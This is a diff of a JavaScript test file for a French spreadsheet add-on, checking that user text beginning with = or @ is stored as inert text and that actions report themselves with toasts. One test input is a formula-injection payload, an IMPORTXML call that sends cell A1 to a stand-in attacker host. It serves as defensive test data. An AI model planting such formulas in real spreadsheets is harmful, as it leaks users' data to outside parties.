@@ -90,7 +90,7 @@ describe('SPEC §7 — user text starting with = + - @ is stored as text, as typ
   it('the report and the dashboard show them as text', () => {
     const emu = example();
     emu.book.setValues('Plan', 'D19', [['=IMPORTXML("http://evil.example/?"&A1;"//a")']]);
-    emu.book.setValues('Plan', 'F19', [['@Julien']]);
+    emu.book.setValues('Plan', 'M19', [['@Julien']]); // the Résultat of a done action: its own cell in the report (v2)
     emu.run('boussoleGenererRapportPour', '2026-10');
     emu.run('boussoleActualiserTableauDeBord');
     const values = emu.book.values('Rapport 2026-10').flat();
@@ -183,7 +183,7 @@ describe('SPEC §1 — every long action ends with a toast saying what was done'
     const emu = blank();
     emu.book.setValues('Cadrage', 'B9', [['Mature'], [5000], [new Date(2026, 10, 1)]]);
     emu.run('boussoleFeuilleDeRouteType');
-    expect(lastToast(emu)).toMatch(/^Feuille de route type ajoutée au Plan : 25 actions de novembre 2026 à octobre 2027/);
+    expect(lastToast(emu)).toMatch(/^Feuille de route type ajoutée au Plan : 38 actions de novembre 2026 à octobre 2027/);
     emu.user.answerAlert('YES');
     emu.run('boussoleRepartirBudget');
     expect(lastToast(emu)).toMatch(/^Budget : 3 postes créés \(Long terme 3 000 €/); // 5 000 × 60 %
